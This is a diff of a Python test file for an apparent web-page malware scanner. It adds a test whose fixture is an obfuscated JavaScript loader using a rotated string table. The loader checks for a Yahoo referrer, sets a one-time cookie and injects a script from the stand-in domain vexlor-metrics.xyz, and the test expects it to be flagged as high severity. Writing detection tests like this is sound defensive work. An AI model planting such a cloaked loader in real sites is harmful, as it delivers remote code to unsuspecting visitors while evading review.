@@ -540,3 +540,18 @@ def test_split_strings_that_only_build_markup_are_not_findings():
     findings, _ = run(_page("var d=document,s=d.createElement('script');s.src='http'+'://'+'widgets.fernwood-stats.com/a.js';"
                             "d.body.appendChild(s);document.write('<scr'+'ipt src=\"https://cdn.fernwood-stats.com/b.js\"></scr'+'ipt>');"))
     assert not findings, [f.message for f in findings]
+
+
+def test_string_array_behind_a_wrapper_function_and_checksum_rotation():
+    """A newer obfuscator layout: the table returned by a function, an accessor with an offset
+    reading it through a local, and a rotation driven by a checksum: judged by vocabulary."""
+    entries = ["createElement", "script", "src", "https://cdn.vexlor-metrics.xyz/s.js", "appendChild",
+               "head", "referrer", "yahoo", "cookie"]
+    js = (f"function _0xa1(){{var t=[{_table(entries)}];_0xa1=function(){{return t;}};return _0xa1();}}"
+          "function _0xb2(a,b){var c=_0xa1();return _0xb2=function(d,e){d=d-0x1a0;var f=c[d];return f;},_0xb2(a,b);}"
+          "(function(g,h){var i=_0xb2,j=g();while(!![]){try{var k=parseInt(i(0x1a3))/0x1;if(k===h)break;"
+          "else j['push'](j['shift']());}catch(l){j['push'](j['shift']());}}}(_0xa1,0x5c1f2));"
+          "(function(){var i=_0xb2;if(document[i(0x1a6)].indexOf(i(0x1a7))>-1&&document[i(0x1a8)].indexOf('_r=1')<0){"
+          "document[i(0x1a8)]='_r=1';var s=document[i(0x1a0)](i(0x1a1));s[i(0x1a2)]=i(0x1a3);document[i(0x1a5)][i(0x1a4)](s);}})();")
+    f = _best(_page(js), "SEO301")
+    assert f is not None and f.severity == "high" and f.evidence["domain"] == "vexlor-metrics.xyz", f
